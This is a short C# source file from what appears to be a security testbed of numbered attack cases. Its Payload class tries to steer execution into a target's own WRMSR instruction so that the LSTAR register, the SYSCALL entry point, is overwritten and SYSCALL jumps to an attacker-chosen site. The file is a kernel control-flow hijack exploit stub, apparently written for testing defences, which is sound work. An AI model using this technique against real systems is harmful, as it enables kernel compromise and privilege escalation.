namespace Testbed.Attacks.D18;

/// <summary>Jumps to T's own WRMSR, to have SYSCALL lead to what <c>site=</c> names; behind it stands a RET.</summary>
static class Payload
{
    const ulong Lstar = 0xC000_0082;        // SDM vol. 4, "Architectural MSRs"

    public static void Run(ulong attempt)
    {
        nuint site = Attempt.Address("site"u8);
        if (!Attempt.TryBegin(attempt))
            return;
        D16.Site.Enter(site, site, Lstar);
        Attempt.End();
    }
}
